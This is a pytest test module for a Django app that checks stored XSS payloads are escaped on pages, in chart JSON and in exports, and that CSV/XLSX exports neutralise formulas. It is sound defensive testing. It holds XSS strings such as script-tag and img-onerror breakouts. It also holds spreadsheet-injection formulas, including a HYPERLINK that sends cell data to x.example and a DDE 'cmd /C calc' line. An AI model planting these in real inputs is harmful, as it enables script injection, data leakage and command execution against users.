"""Script payloads in names, notes and ticket texts are rendered escaped: on every page
that shows them, for every persona (and the shared charter's anonymous reader), in the
charts' JSON and in the exports.

The world (``payloads.build_xss_world``) is built once for the module in a transaction
rolled back at its end; each test runs in a savepoint inside it."""

from __future__ import annotations

import csv
import io
import json
import re
from html import escape, unescape
from html.parser import HTMLParser

import pytest
from django.db import transaction
from django.test import Client
from openpyxl import load_workbook

from accounts.personas import Persona

from .payloads import (
    ALL,
    ATTRIBUTE,
    BREAKOUT,
    PAGES,
    PAYLOADS,
    SCRIPT,
    XssWorld,
    build_xss_world,
    shown_escaped,
)

pytestmark = pytest.mark.django_db

WHO = [*Persona, "anonymous"]
JSON_SCRIPT = re.compile(r'<script id="([^"]+)" type="application/json">(.*?)</script>', re.S)


@pytest.fixture(scope="module")
def xss_world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock():
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            built = build_xss_world()
        except BaseException:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)
            raise
    yield built
    with django_db_blocker.unblock():
        transaction.set_rollback(True)
        atomic.__exit__(None, None, None)


def client_for(world: XssWorld, who) -> Client:
    client = Client()
    if who != "anonymous":
        client.force_login(world.users[who])
    return client


def get(world: XssWorld, who, page: str) -> tuple[int, str]:
    response = client_for(world, who).get(page.format(**world.urls()))
    return response.status_code, response.content.decode()


def figures(html: str) -> dict[str, dict]:
    """The page's json_script blocks, parsed."""
    return {name: json.loads(body) for name, body in JSON_SCRIPT.findall(html)}


class _Injected(HTMLParser):
    """What a browser would build from the payloads if they got through: an ``img``
    with ``src=x``, an event handler attribute calling ``alert`` (also the way an
    unquoted attribute lets one in while escaped), a script running ``alert``."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on") and "alert" in (value or ""):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.found.append("<img src=x>")
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(1)" in data and not data.lstrip().startswith("{"):
            self.found.append(f"<script>{data[:60]}")


def assert_no_raw_payload(html: str, where: str) -> None:
    for payload in PAYLOADS:
        assert payload not in html, f"{where}: {payload!r} is in the page unescaped"
    parser = _Injected()
    parser.feed(html)
    assert parser.found == [], f"{where}: {parser.found}"


@pytest.mark.parametrize("page", list(PAGES))
@pytest.mark.parametrize("who", WHO, ids=lambda w: getattr(w, "name", w).lower())
def test_no_page_carries_a_payload_unescaped_for_any_persona(xss_world, who, page):
    status, html = get(xss_world, who, page)
    assert_no_raw_payload(html, f"{page} as {who}")
    if who in PAGES[page]:
        assert status == 200, (page, who, status)
        assert shown_escaped(html), f"{page} as {who}: the seeded texts are not on the page"


def test_the_seeded_texts_are_shown_as_text_on_their_pages(xss_world):
    """Not vacuous: each text is on the page that shows it, escaped."""
    expected = {
        "/customers/{customer}/": [f"Acme {ALL}", f"Role {ALL}", f"Promise {ALL}", f"Help {ALL}"],
        "/roles/charters/{charter}/": [f"Notes {ALL}", f"Promise {ALL}", f"Role {ALL}"],
        "/roles/blueprints/{blueprint}/": [f"Role {ALL}", f"About {ALL}", f"Promise {ALL}"],
        "/cx/cases/{case}/": [f"Because {ALL}", f"Looking {ALL}", f"Acme {ALL}"],
        "/roles/shared/{token}/": [f"Acme {ALL}", f"Promise {ALL}", f"Role {ALL}"],
        "/customers/": [f"Acme {ALL}"],
        "/cx/": [f"Acme {ALL}"],
    }
    for page, texts in expected.items():
        who = PAGES[page][0]
        status, html = get(xss_world, who, page)
        assert status == 200, page
        for text in texts:
            assert escape(text) in html, (page, text)


def test_the_timeline_figure_carries_ticket_feedback_and_activity_texts_escaped(xss_world):
    status, html = get(xss_world, Persona.EXECUTIVE, "/customers/{customer}/")
    assert status == 200
    charts = figures(html)
    timeline = next(f for f in charts.values() if "relationship so far" in json.dumps(f))
    labels = [t for trace in timeline["data"] for t in trace.get("text", [])]
    texts = [label for label in labels if "alert(1)" in label]
    assert texts, labels[:5]
    # plotly draws tags in text as markup: each label is HTML-escaped for it, so it
    # shows the characters typed, and unescaping gives back exactly what was stored.
    for label in texts:
        assert "<" not in label and ">" not in label, label
    shown = {unescape(label) for label in texts}
    assert any(s.startswith(f"Help {ALL}") for s in shown), shown
    assert any(f"Idea {SCRIPT}" in s for s in shown), shown  # insights are cut at 80
    # The waterfall is there too (its labels are the product's own words).
    assert any("From revenue to lifetime value" in json.dumps(f) for f in charts.values())


def test_json_script_blocks_cannot_be_closed_by_a_payload(xss_world):
    status, html = get(xss_world, Persona.EXECUTIVE, "/customers/{customer}/")
    assert status == 200
    for _name, body in JSON_SCRIPT.findall(html):
        assert "</" not in body and "<script" not in body.lower()
    assert BREAKOUT not in html


def test_the_dashboard_scatter_hover_data_carries_the_name_escaped(xss_world):
    status, html = get(xss_world, Persona.EXECUTIVE, "/economics/dashboard/")
    assert status == 200
    assert_no_raw_payload(html, "dashboard")
    charts = figures(html)
    hover = [
        row[1]
        for figure in charts.values()
        for trace in figure.get("data", [])
        for row in trace.get("customdata") or []
        if isinstance(row, list) and len(row) > 1 and isinstance(row[1], str)
    ]
    ours = [h for h in hover if "alert(1)" in h]
    assert ours, "the payload customer is not in the scatter"
    assert all(unescape(h) == f"Acme {ALL}" and "<" not in h for h in ours), ours
    # Segment names (group bars) too.
    assert any(escape(f"Seg {SCRIPT}") in json.dumps(f) for f in charts.values())


FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_customers(xss_world):
    from tests.factories import CustomerFactory

    manager = xss_world.users[Persona.ACCOUNT_MANAGER]
    return [
        CustomerFactory(external_id=f"F{i}", name=text, account_manager=manager)
        for i, text in enumerate(FORMULAS)
    ]


def _export(world: XssWorld, fmt: str):
    response = client_for(world, Persona.EXECUTIVE).get(f"/customers/export.{fmt}")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert "html" not in response["Content-Type"]
    return response


def test_the_csv_export_neutralises_formulas_and_keeps_payloads_as_plain_text(
    xss_world, formula_customers
):
    body = b"".join(_export(xss_world, "csv").streaming_content).decode("utf-8-sig")
    names = {row["external_id"]: row["name"] for row in csv.DictReader(io.StringIO(body))}
    for i, text in enumerate(FORMULAS):
        assert names[f"F{i}"] == "'" + text
    # A script payload is text in a CSV (no spreadsheet runs it); it comes out as stored.
    assert names[xss_world.customer.external_id] == f"Acme {ALL}"


def test_the_xlsx_export_stores_formulas_and_payloads_as_text(xss_world, formula_customers):
    book = load_workbook(io.BytesIO(b"".join(_export(xss_world, "xlsx").streaming_content)))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    name_col, id_col = header.index("name"), header.index("external_id")
    cells = {row[id_col].value: row[name_col] for row in sheet.iter_rows(min_row=2)}
    for i, text in enumerate(FORMULAS):
        cell = cells[f"F{i}"]
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.value == "'" + text.replace("\r", "\n")  # XML keeps no bare CR
    ours = cells[xss_world.customer.external_id]
    assert (ours.data_type, ours.value) == ("s", f"Acme {ALL}")


def test_an_error_report_export_neutralises_a_formula_from_the_file(xss_world):
    from imports import services

    admin = xss_world.users[Persona.ADMIN]
    handle = io.BytesIO(
        b'external_id,customer,date,revenue\nO1,"=HYPERLINK(""http://x"")",2024-01-01,1\n'
        b'O2,C1,2024-01-01,"<script>alert(1)</script>"\n'
    )
    handle.name = "orders.csv"
    result = services.import_run(kind="orders", source=handle, user=admin)
    result.close()
    client = client_for(xss_world, Persona.ADMIN)
    body = b"".join(client.get(f"/imports/{result.job_id}/errors.csv").streaming_content).decode(
        "utf-8-sig"
    )
    values = [row["value"] for row in csv.DictReader(io.StringIO(body))]
    assert '\'=HYPERLINK("http://x")' in values
    assert SCRIPT in values  # plain text in a CSV
    page = client.get(f"/imports/{result.job_id}/").content.decode()
    assert_no_raw_payload(page, "import detail")
    assert escape(SCRIPT) in page


def test_payload_constants_are_the_ones_the_issue_names():
    assert PAYLOADS == (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "</script><script>alert(1)</script>",
    )
    assert ATTRIBUTE in ALL
